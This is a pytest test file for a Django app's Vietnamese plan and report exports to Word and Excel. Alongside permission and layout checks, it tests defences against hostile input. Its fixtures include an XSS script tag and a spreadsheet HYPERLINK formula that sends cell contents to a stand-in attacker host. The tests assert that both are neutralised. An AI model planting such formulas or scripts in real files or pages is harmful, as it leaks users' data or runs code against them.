"""Excel exports, and hostile text on its way into documents and spreadsheets."""

import io
import unicodedata

import openpyxl
import pytest

from chisoxanh.documents import services
from chisoxanh.documents.xlsx import neutralise
from chisoxanh.reports.models import TaskReport
from tests.documents.conftest import open_docx

HOSTILE = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'


def xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    return openpyxl.load_workbook(io.BytesIO(response.content))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_formula_like_text_is_neutralised(value):
    assert neutralise(value).startswith("'")


def test_numbers_and_plain_text_pass(users):
    assert neutralise(-5) == -5 and neutralise("Hội nghị") == "Hội nghị"


def test_the_board_export_has_vietnamese_headers_and_every_cell(client, users, result_report):
    client.force_login(users["vanphong"])
    wb = xlsx(client.get(f"/ky-bao-cao/{result_report.period_id}/bang-theo-doi.xlsx"))
    assert wb.sheetnames == ["Đơn vị × nhiệm vụ", "Theo đơn vị", "Theo chỉ số"]
    ws = wb["Đơn vị × nhiệm vụ"]
    assert [c.value for c in ws[1]][:3] == ["Đơn vị", "Mục", "Nhiệm vụ"]
    assert ws.max_row == 1 + TaskReport.objects.count()
    assert ws.column_dimensions["C"].width == 60
    client.force_login(users["chuyenvien"])
    assert client.get(f"/ky-bao-cao/{result_report.period_id}/bang-theo-doi.xlsx").status_code == 404


def test_hostile_text_is_escaped_neutralised_nfc_and_laid_out(client, users, result_report):
    report = TaskReport.objects.get(organization__name="Phòng Nghiệp vụ II", task__section="II.2")
    long_text = "Tuyên truyền " * 800  # about 10,000 characters
    nfd = unicodedata.normalize("NFD", "Đã tuyên truyền về đầu tư xanh")
    TaskReport.objects.filter(pk=report.pk).update(results=f"{HOSTILE} {FORMULA}\n{long_text}\n{nfd}\x0b")
    services.result_report_regenerate(
        actor=users["vanphong"],
        report=result_report,
        expected_version=result_report.version,
        today=result_report.period.due_date,
    )
    client.force_login(users["vanphong"])
    doc = open_docx(client.get(f"/bao-cao-ket-qua/{result_report.pk}/tai-ve.docx").content)
    texts = [p.text for p in doc.paragraphs]
    assert any(HOSTILE in t for t in texts)  # stored as text: Word shows it, nothing runs
    assert any(len(t) > 9000 for t in texts)
    assert any("Đã tuyên truyền về đầu tư xanh" in t for t in texts)
    assert all(unicodedata.is_normalized("NFC", t) for t in texts)
    assert not any("\x0b" in t for t in texts)
    page = client.get(f"/bao-cao-ket-qua/{result_report.pk}/").content.decode()
    assert "<script>alert" not in page
    wb = xlsx(client.get(f"/ky-bao-cao/{result_report.period_id}/bao-cao-nhiem-vu.xlsx"))
    ws = wb.active
    values = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert not any(v.startswith("=") for v in values)
    assert any(v.startswith(HOSTILE) for v in values)


def test_the_reports_export_has_one_row_per_activity(client, users, result_report):
    from chisoxanh.reports.models import Activity

    client.force_login(users["giamdoc"])
    ws = xlsx(client.get(f"/ky-bao-cao/{result_report.period_id}/bao-cao-nhiem-vu.xlsx")).active
    with_activities = TaskReport.objects.filter(activities__isnull=False).distinct().count()
    assert ws.max_row == 1 + Activity.objects.count() + TaskReport.objects.count() - with_activities
    headers = [c.value for c in ws[1]]
    assert "Kiến nghị, đề xuất" in headers and "Số người" in headers


def test_the_plan_exports_as_a_kế_hoạch_and_its_task_table(client, users, result_report):
    plan = result_report.plan
    client.force_login(users["chuyenvien"])
    doc = open_docx(client.get(f"/ke-hoach/{plan.pk}/tai-ve.docx").content)
    texts = [p.text for p in doc.paragraphs]
    assert "KẾ HOẠCH" in texts and plan.title in texts
    for heading in ("I. MỤC ĐÍCH, YÊU CẦU", "II. NHIỆM VỤ VÀ GIẢI PHÁP", "III. TỔ CHỨC THỰC HIỆN"):
        assert heading in texts
    assert "1. Chỉ số “Giảm thiểu ô nhiễm môi trường và thiên tai”" in texts
    assert texts.count("- Đơn vị chủ trì: Phòng Nghiệp vụ II.") == 2
    assert "- Đơn vị phối hợp thực hiện: các phòng, đơn vị sự nghiệp thuộc Sở." in texts
    left = doc.tables[0].rows[0].cells[0]
    assert [p.text for p in left.paragraphs if p.text][:3] == ["UBND TỈNH LẠNG SƠN", "SỞ TƯ PHÁP", "Số:       /KH-STP"]
    received, signer = doc.tables[1].rows[0].cells
    assert [p.text for p in received.paragraphs][-1] == "- Lưu: VT, VP(BTH)."
    assert [p.text for p in signer.paragraphs if p.text] == ["GIÁM ĐỐC", "Phạm Hùng Trường"]
    ws = xlsx(client.get(f"/ke-hoach/{plan.pk}/nhiem-vu.xlsx")).active
    assert ws.max_row == 1 + plan.tasks.count()
    assert ws["F3"].value == "Phòng Nghiệp vụ II"
    client.force_login(users["admin"])
    from chisoxanh.accounts.models import Membership

    Membership.objects.filter(user__username="chuyenvien").delete()
    client.force_login(users["chuyenvien"])
    assert client.get(f"/ke-hoach/{plan.pk}/tai-ve.docx").status_code == 404
